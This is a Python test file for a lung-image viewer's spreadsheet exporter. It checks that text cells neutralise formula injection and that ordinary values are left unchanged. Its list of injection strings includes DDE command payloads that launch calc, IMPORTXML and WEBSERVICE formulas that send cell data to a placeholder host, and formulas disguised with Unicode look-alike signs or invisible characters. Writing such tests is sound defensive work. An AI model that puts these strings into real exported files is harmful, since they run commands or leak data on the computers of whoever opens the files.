"""Cells that no spreadsheet runs (T10)."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lungviewer.exporters.cells import integer_cell, number_cell, restored, text_cell

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−")
SKIPPED = (
    " ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\u00a0",
    "\u3000",
    "\ufeff",
    "\u200b",
    "\u202e",
    "\x00",
    '"',
    "'",
    "’",
)

INJECTIONS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/c calc'!A1",
    "+cmd|'/c calc'!A1",
    "-cmd|'/c calc'!A1",
    "@cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://x\",\"click\")",
    "=IMPORTXML(CONCAT(\"http://x?\",A1),\"//a\")",
    "=WEBSERVICE(\"http://x\")",
    "=DDE(\"cmd\";\"/C calc\";\"__\")",
    "=2+5+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    " =1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u2003+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u202e=1+1",
    "\u2066@A1",
    "\x00=1+1",
    "\x08=1+1",
    "\x0b=1+1",
    "\x0c=1+1",
    "\x1b=1+1",
    "\x7f=1+1",
    "\x85=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫A1",
    "−1",
    " ＝1",
    '"=1+1"',
    '"=1+1',
    '""=1+1',
    "'=1+1",
    "''=1+1",
    "' =1+1",
    "’=1+1",
    "“=1+1”",
    "tumour;=1+1",
    "tumour; =1+1;rest",
    "tumour;\"=1+1\"",
    "tumour;@A1;+A2;-A3",
    "tumour\t=1+1",
    "tumour\n=1+1",
    "tumour\r=1+1",
    "tumour\r\n\r\n=1+1",
    "tumour\n;=1+1",
    "tumour\u2028=1+1",
    "-",
    "=",
    "--",
    "=\udcff",
    "\udcff;=1",
)  # fmt: skip

HARMLESS = (
    "",
    "plain.png",
    "a=b.png",
    "C:\\images\\a-b.png",
    "/data/a+b@c.jpg",
    "1-2",
    "it's",
    "a;b",
    "two\nlines\n\nand a third",
    "2025-01-31T10:00:00+00:00",
    "“quoted”",
    "肺 – 腺癌",
    "a, b",
)


def test_there_are_enough_injection_strings() -> None:
    assert len(INJECTIONS) >= 50


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injection_is_neutralised_and_can_be_restored(text: str) -> None:
    cell = text_cell(text)
    assert cell != text
    for piece in pieces_in_any_locale(cell):
        assert not begins_a_formula(piece), (cell, piece)
    if cell.isprintable() and text.isprintable():
        assert restored(cell) == text


def pieces_in_any_locale(cell: str) -> list[str]:
    """Every text that a spreadsheet could take for the content of a cell, wherever it cuts."""
    pieces = [""]
    for character in cell:
        if character in ";\t\r\n\x85\u2028\u2029":
            pieces.append("")
        else:
            pieces[-1] += character
    return pieces


def begins_a_formula(piece: str) -> bool:
    """An own, simple reading, so that the test does not trust the expression that it tests."""
    for character in piece:
        if character == "'":
            return False  # text to every spreadsheet
        if character in SIGNS:
            return True
        if character not in "".join(SKIPPED):
            return False
    return False


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert text_cell(text) == text


@given(st.text())
def test_any_text_comes_back_after_neutralising(text: str) -> None:
    printable = text_cell(text)
    assert all(not begins_a_formula(piece) for piece in pieces_in_any_locale(printable))
    if not any(ord(character) < 32 or ord(character) == 127 for character in text):
        assert restored(printable) == text


@given(st.text(alphabet="='\t\n\r;-@ a\"", max_size=12))
def test_signs_breaks_and_apostrophes_in_any_order_come_back(text: str) -> None:
    cell = text_cell(text)
    assert all(not begins_a_formula(piece) for piece in pieces_in_any_locale(cell))
    assert restored(cell) == text


@given(st.text(alphabet=st.characters(), max_size=20))
def test_every_cell_can_be_encoded(text: str) -> None:
    text_cell(text).encode("utf-8")


def test_a_name_that_is_not_utf8_is_printed_with_an_escape() -> None:
    assert text_cell("caf\udce9.png") == "caf\\udce9.png"


def test_control_characters_are_printed_with_an_escape() -> None:
    assert text_cell("a\x00b\x1bc") == "a\\x00b\\x1bc"


def test_long_runs_of_breaks_take_no_time_to_speak_of() -> None:
    assert len(text_cell("\n" * 4000)) == 4001


@pytest.mark.parametrize(
    ("value", "decimals", "cell"),
    [
        (0.5, 6, "0.500000"),
        (-1.25, 4, "-1.2500"),
        (-0.00001, 3, "0.000"),
        (1234567.5, 3, "1234567.500"),
        (1e-9, 6, "0.000000"),
        (None, 6, ""),
        (float("nan"), 6, ""),
        (float("inf"), 6, ""),
        (3, 2, "3.00"),
    ],
)
def test_numbers_have_a_point_and_fixed_decimals(value: float | None, decimals: int, cell: str) -> None:
    assert number_cell(value, decimals) == cell


def test_integers_are_plain_and_none_is_empty() -> None:
    assert integer_cell(100_000) == "100000"
    assert integer_cell(None) == ""
